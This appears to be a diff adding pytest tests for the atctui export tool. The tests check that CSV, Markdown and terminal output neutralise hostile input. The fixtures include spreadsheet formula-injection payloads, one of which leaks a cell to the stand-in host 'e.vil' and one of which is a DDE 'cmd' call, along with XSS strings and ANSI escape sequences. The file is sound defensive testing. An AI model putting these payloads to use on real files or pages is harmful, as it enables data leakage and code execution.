@@ -1,0 +1,136 @@
+"""What an export carries out of atctui never acts where it lands: no formula runs in a
+spreadsheet, no HTML or link runs in a rendered Markdown page, no control character
+reaches a terminal or the clipboard, and an empty view exports without a crash."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+import tomli_w
+from markdown_it import MarkdownIt
+from tests.conftest import run_cli
+
+from atctui.export import render
+from atctui.loading import load
+from atctui.views import View, build
+
+FORMULAS = [
+    '=HYPERLINK("http://e.vil/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tTab first",
+    "\rReturn first",
+]
+HTML = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    "[click me](javascript:alert(3))",
+    "`code` and *emphasis* and __strong__ | a pipe ~~struck~~",
+    "&lt;already an entity&gt; & <b>bold</b>",
+]
+
+
+def dataset_with(tmp_path: Path, names: list[str]) -> Path:
+    cite = [{"source": "s", "quote": "q"}]
+    data: dict[str, Any] = {
+        "sources": [{"id": "s", "kind": "source_text", "file": "a.txt"}],
+        "participants": [
+            {"id": f"p{i}", "name": name, "kind": "cis_body", "citations": cite}
+            for i, name in enumerate(names)
+        ],
+        "meetings": [
+            {
+                "id": "m",
+                "number": 1,
+                "title": names[0],
+                "date": "2019",
+                "city": names[-1],
+                "citations": cite,
+                "attendances": [
+                    {"participant": f"p{i}", "as_written": name, "citations": cite}
+                    for i, name in enumerate(names)
+                ],
+            }
+        ],
+    }
+    path = tmp_path / "hostile.toml"
+    path.write_text(tomli_w.dumps(data), encoding="utf-8")
+    return path
+
+
+def test_csv_cells_never_start_a_formula_unless_raw(tmp_path: Path) -> None:
+    path = dataset_with(tmp_path, FORMULAS)
+    for view in ("participants", "timeline"):
+        result = run_cli("export", view, "--data", str(path), "--format", "csv")
+        assert result.returncode == 0, result.stderr
+        cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        if view == "participants":  # the names, each in a cell of its own
+            assert '\'=HYPERLINK("http://e.vil/?leak="&A1,"Click")' in cells
+            assert "'-2+3" in cells and "'@SUM(1,2)" in cells
+    raw = run_cli("export", "participants", "--data", str(path), "--format", "csv", "--raw")
+    cells = [cell for row in csv.reader(io.StringIO(raw.stdout)) for cell in row]
+    assert FORMULAS[0] in cells and "-2+3" in cells
+    # Control characters are shown, never written, even raw.
+    assert not [c for c in cells if "\t" in c or "\r" in c]
+
+
+def test_markdown_renders_the_data_as_text_never_as_html_or_links(tmp_path: Path) -> None:
+    dataset = load([dataset_with(tmp_path, HTML)])
+    renderer = MarkdownIt("commonmark").enable("table").enable("strikethrough")
+    for name in ("participants", "timeline"):
+        page = renderer.render(render(build(name, dataset), "markdown"))
+        assert not re.search(r"<(script|img|b)\b", page)
+        assert "href" not in page and "<code>" not in page and "<em>" not in page
+        assert "<strong>" not in page and "<s>" not in page
+        # ...and the reader sees exactly the data's characters.
+        text = html.unescape(re.sub(r"<[^>]+>", "", page))
+        for value in HTML if name == "participants" else [HTML[0], HTML[-1]]:
+            assert value in text, value
+
+
+def test_an_empty_view_exports_in_every_format() -> None:
+    """Before: `4 e enter` (Compare before choosing meetings) crashed in box_table."""
+    empty = View("compare", "Compare", (), ())
+    for fmt in ("text", "markdown", "csv", "json"):
+        out = render(empty, fmt)
+        assert ("Compare" if fmt in ("text", "markdown") else "compare") in out or fmt == "csv"
+
+
+@pytest.mark.parametrize("command", [["config", "path"], ["config", "show"], ["validate"]])
+def test_settings_echoed_on_the_terminal_show_control_characters(
+    tmp_path: Path, command: list[str]
+) -> None:
+    """Before: a settings path or value holding ESC ] 0 ; … BEL retitled the terminal and
+    ESC [ 2 J cleared it, when atctui echoed it."""
+    import os
+    import subprocess
+    import sys
+
+    escapes = "\x1b]0;TITLE\x07\x1b[2J"
+    settings = tmp_path / f"settings{escapes}.toml"
+    settings.write_text(f'theme = "{escapes.encode("unicode_escape").decode()}"\n[bad\n')
+    env = {**os.environ, "ATCTUI_CONFIG": str(settings), "ATCTUI_EXPORT_FORMAT": escapes}
+    result = subprocess.run(
+        [sys.executable, "-m", "atctui", *command],
+        capture_output=True, text=True, env=env, timeout=60,
+    )  # fmt: skip
+    assert "Traceback" not in result.stderr
+    for stream in (result.stdout, result.stderr):
+        assert "\x1b" not in stream and "\x07" not in stream
+    assert "settings\\x1b]0;TITLE\\x07\\x1b[2J.toml" in result.stdout + result.stderr
+
+
+def test_a_file_name_with_control_characters_is_shown_visibly(tmp_path: Path) -> None:
+    name = tmp_path / "bad\x1b[2Jname.toml"
+    name.write_text("x = [\n", encoding="utf-8")
+    result = run_cli("validate", str(name))
+    assert result.returncode == 1
+    assert "\x1b" not in result.stderr and "bad\\x1b[2Jname.toml" in result.stderr
